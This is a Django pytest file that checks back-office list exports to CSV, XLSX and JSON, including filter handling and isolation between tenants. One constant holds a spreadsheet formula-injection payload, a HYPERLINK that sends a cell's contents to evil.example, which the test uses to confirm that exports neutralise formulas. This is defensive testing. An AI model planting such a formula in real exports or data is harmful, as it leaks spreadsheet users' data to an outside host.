"""Every back-office list exports CSV, XLSX and JSON with its current filters (issue 13, §2): each
format is opened back (csv, openpyxl, json), shows fabrique A's rows only, and follows the filters."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from fabrique.backoffice.views.base import ExportMixin
from tests.matrix.test_matrix import discover, shared_world  # noqa: F401  (fixture)
from tests.world import SECRET_B

pytestmark = pytest.mark.django_db

# list URL -> (a text of a row of fabrique A, a filter that keeps no row)
LISTS = {
    "backoffice:organization_list": ("Structure A", {"q": "zzzaucune"}),
    "backoffice:person_list": ("Contact A", {"q": "zzzaucune"}),
    "backoffice:workstream_list": (None, {"q": "zzzaucune"}),
    "backoffice:report_list": (None, {"q": "zzzaucune"}),
    "backoffice:need_list": (None, {"q": "zzzaucune"}),
    "backoffice:project_list": (None, {"q": "zzzaucune"}),
    "backoffice:call_list": (None, {"stage": "cancelled"}),
    "backoffice:application_list": (None, {"stage": "withdrawn"}),
    # the lists that are not FilteredListViews, through the same ExportMixin (no filter: None)
    "backoffice:study_list": (None, {"q": "zzzaucune"}),
    "backoffice:committee_list": (None, None),
    "backoffice:support_plan_list": ("Projet accompagné A", {"etape": "stopped"}),
    "backoffice:enterprise_list": (None, None),
    "backoffice:agreement_list": (None, None),
}


def open_back(fmt: str, response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    if fmt == "csv":
        text = body.decode("utf-8")
        assert text.startswith("\ufeff")
        return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(body)).active
        return [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    data = json.loads(body)
    assert isinstance(data, list)
    if not data:
        return [[]]
    return [list(data[0].keys())] + [[str(v) for v in row.values()] for row in data]


def test_every_filtered_list_exports():
    from django.urls import resolve

    names = [name for name, _r, _k in discover(namespaces=("backoffice",)) if name.endswith("_list")]
    exporting = []
    for name in names:
        route = next(r for n, r, _k in discover(namespaces=("backoffice",)) if n == name)
        path = "/" + route.replace("<slug:fabrique_slug>", "x").replace("espace/", "espace/", 1)
        try:
            view = resolve(path).func.view_class
        except Exception:
            continue
        if issubclass(view, ExportMixin) and view.export_columns:
            exporting.append(name)
    assert set(LISTS) <= set(exporting)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
@pytest.mark.parametrize("name", sorted(LISTS))
def test_export_opens_back_with_the_filters(shared_world, db, name, fmt):  # noqa: F811
    world = shared_world
    client = Client()
    client.force_login(world.a.team.admin, backend="django.contrib.auth.backends.ModelBackend")
    url = reverse(name, kwargs={"fabrique_slug": world.a.team.fabrique.slug})
    response = client.get(url, {"export": fmt})
    assert response.status_code == 200
    assert f'.{fmt}"' in response["Content-Disposition"]
    rows = open_back(fmt, response)
    text = "\n".join(";".join(row) for row in rows)
    assert SECRET_B not in text
    marker, empty_filter = LISTS[name]
    if fmt != "json":
        assert len(rows[0]) >= 5  # the header
        assert len(rows) >= 2, "fabrique A's rows are exported"
    if marker:
        assert marker in text
    if empty_filter is not None:
        filtered = open_back(fmt, client.get(url, {"export": fmt, **empty_filter}))
        assert len(filtered) == 1  # the header only (json: an empty list)


def test_the_list_page_links_its_exports_with_the_filters(shared_world, db):  # noqa: F811
    world = shared_world
    client = Client()
    client.force_login(world.a.team.reader, backend="django.contrib.auth.backends.ModelBackend")
    url = reverse("backoffice:organization_list", kwargs={"fabrique_slug": world.a.team.fabrique.slug})
    html = client.get(url, {"q": "Structure", "page": "1"}).content.decode()
    for fmt in ("csv", "xlsx", "json"):
        assert f"?q=Structure&amp;export={fmt}" in html
    assert client.get(url, {"export": "pdf"}).status_code == 400


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_a_new_list_export_neutralises_formulas_and_keeps_types(client, team, fmt):
    """The committees' export (a TemplateView list through ExportMixin): a typed formula reaches the
    spreadsheet as text; numbers stay numbers in XLSX and JSON, French in CSV."""
    from tests.committees.factories import make_committee
    from tests.directory.factories import make_person

    members = [make_person(team.fabrique, first_name=n, last_name="Membre") for n in ("Alex", "Bea")]
    make_committee(team.fabrique, team.admin, name=FORMULA, members=members)
    client.force_login(team.reader, backend="django.contrib.auth.backends.ModelBackend")
    url = reverse("backoffice:committee_list", kwargs={"fabrique_slug": team.fabrique.slug})
    response = client.get(url, {"export": fmt})
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
        assert rows[0][:4] == ["Nom", "Type", "Étude suivie", "Membres"]
        assert rows[1][0] == "'" + FORMULA and rows[1][3] == "2"
    elif fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(body)).active
        row = next(sheet.iter_rows(min_row=2, values_only=True))
        assert row[0] == FORMULA and row[3] == 2
        assert sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    else:
        data = json.loads(body)
        assert data[0]["name"] == FORMULA and data[0]["members"] == 2
